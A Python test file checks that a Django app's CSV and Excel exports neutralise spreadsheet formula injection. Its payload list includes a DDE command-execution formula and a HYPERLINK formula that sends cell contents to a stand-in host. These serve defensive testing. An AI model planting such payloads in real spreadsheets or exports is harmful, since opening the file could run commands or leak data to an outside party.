"""What we write for others opens as text and numbers, never as a formula."""

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from common.spreadsheets.formulas import harmless
from common.spreadsheets.writing import Cell, csv_pieces, write_workbook
from tests.common.spreadsheets.builders import read

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\tx", "\rx", " =1+1", "\u00a0=1+1",
    "\ufeff=1+1", "\u200b=1+1", "\u200e@x", "\u00ad-1", '"=1+1', "'=1+1",
    "＝1+1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x",
    "=cmd|'/c calc'!A1", '=HYPERLINK("http://x.example?"&A1,"click")', "=IMPORTXML(A1)", "+31612345678", "-",
    "x;=1+1", "x,=1+1", "x\t=1+1", 'x"=1+1', "x\r\n=1+1", "x|=1+1", 'a";=1+1;"', "x;＝1+1", "x;'=1", "=\u0000", "-2+3",
    "\x01=1+1", "\x00=1+1", "\x7f=1+1", "\x85@x", "x;\x01=1+1", "x,\x1f-1",
    "\u202e=1+1", "\u2066@x", "\u061c-1", "\u180e+1", "\ufe0f=1", "\u3164=1", "\U000e0041=1", "\u2062\u2800=1",
    "\u200b\x01 \u202a'=1", "x;\u200b=1", "x,\u202e\x01@x", "x\t\ufe0f=1",
]  # fmt: skip
CONTROLS = "".join(map(chr, [*range(9), *range(14, 32), *range(127, 160)]))
UNSEEN = "\ufeff\u200b\u200e\u00ad\u202a\u202e\u2066\u061c\u180e\ufe0f\u3164\U000e0041\u2062\u2800"
SKIPPED = " \u00a0\"'" + UNSEEN + CONTROLS
"""What a program may leave out before it looks whether a cell begins like a formula."""
LEADERS = tuple("=+-@\t\r＝＋－＠﹦﹢﹣﹫")


def written(rows: list[list[Cell]], *, language: str = "en") -> str:
    return b"".join(csv_pieces(["name", "note"], rows, language=language)).decode("utf-8-sig")


def workbook_cells(rows: list[list[Cell]]) -> list[tuple[Any, ...]]:
    made = io.BytesIO()
    write_workbook(made, ["name", "=note"], rows, title="People: all [1]")
    return list(load_workbook(made).active.iter_rows(min_row=2))


@pytest.mark.parametrize("language", ["nl", "en"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_starts_like_a_formula_whatever_delimiter_it_is_opened_with(payload: str, language: str) -> None:
    text = written([["Jan", payload], [payload, "Jan"]], language=language)
    own = ";" if language == "nl" else ","
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=own):
        assert not any(cell.lstrip(SKIPPED).startswith(LEADERS) and cell[:1] != "'" for cell in row)
    for delimiter in ";,\t|":
        for line in text.splitlines():
            for cell in line.split(delimiter):
                assert not cell.lstrip(CONTROLS + UNSEEN).startswith(LEADERS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_workbook_cell_is_a_formula(payload: str) -> None:
    for row in workbook_cells([["Jan", payload], [payload, "Jan"]]):
        for cell in row:
            assert cell.data_type == "s"
            assert not str(cell.value).startswith(LEADERS)


def test_the_header_is_made_harmless_too() -> None:
    made = io.BytesIO()
    write_workbook(made, ["=1+1"], [], title="x")
    assert next(load_workbook(made).active.iter_rows())[0].value == "'=1+1"
    assert b"".join(csv_pieces(["=1+1"], [], language="en")).decode("utf-8-sig").startswith("\"'=1+1")


@given(st.text())
def test_harmless_text_never_starts_like_a_formula(text: str) -> None:
    assert not harmless(text).startswith(LEADERS)


@pytest.mark.parametrize(
    "text",
    ["", "Jan van 't Hof", "zoe@houtwijk.example", "a - b", "1-2-2026", "el-Amrani", "x = y", "a, -5", "50%", "a; b"],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_tables_for_others_are_written_in_one_place() -> None:
    """What writes a table by itself would forget the guard; the codes of ``import_people`` are guarded on their own."""
    writes = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(|text/csv")
    found = {
        str(path.relative_to(settings.BASE_DIR))
        for app in settings.BASE_DIR.glob("*/apps.py")
        for path in app.parent.rglob("*.py")
        if "seed" not in path.parts and writes.search(path.read_text(encoding="utf-8"))
    }
    assert found == {
        "common/spreadsheets/writing.py",
        "directory/management/commands/import_people.py",
    }


def test_numbers_stay_numbers_in_csv() -> None:
    assert written([[-5, 1.5], [Decimal("2.50"), -0.25]]).splitlines()[1:] == ["-5,1.5", "2.50,-0.25"]


def test_dutch_csv_has_semicolons_and_decimal_commas() -> None:
    assert written([["a", -1.5], [Decimal("2.50"), 3]], language="nl").splitlines() == [
        '"name";"note"', '"a";-1,5', "2,50;3",
    ]  # fmt: skip


def test_numbers_and_dates_stay_what_they_are_in_a_workbook() -> None:
    rows = workbook_cells([[-5, 1.5], [date(2026, 2, 25), None], [True, ""]])
    assert [[cell.value for cell in row] for row in rows] == [
        [-5, 1.5], [datetime(2026, 2, 25), None], [True, None],  # noqa: DTZ001
    ]  # fmt: skip


def test_moments_are_written_in_the_time_of_amsterdam() -> None:
    moment = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
    assert '"2026-07-02 00:30:00"' in written([[moment, ""]])
    assert workbook_cells([[moment, ""]])[0][0].value == datetime(2026, 7, 2, 0, 30)  # noqa: DTZ001


def test_csv_comes_in_pieces() -> None:
    pieces = list(csv_pieces(["a", "b"], ([number, "x"] for number in range(2_000)), language="en"))
    assert len(pieces) == 5
    assert pieces[0].startswith(b"\xef\xbb\xbf")


def test_characters_that_a_workbook_cannot_hold_are_left_out() -> None:
    assert workbook_cells([["a\x00b\x0bc", "x" * 40_000]])[0][0].value == "abc"


@pytest.mark.parametrize("language", ["nl", "en"])
@given(name=st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=30))
def test_what_we_write_we_can_read(name: str, language: str) -> None:
    content = b"".join(csv_pieces(["name", "number"], [[name, 5]], language=language))
    assert read(content) == [["name", "number"], [harmless(name), "5"]]
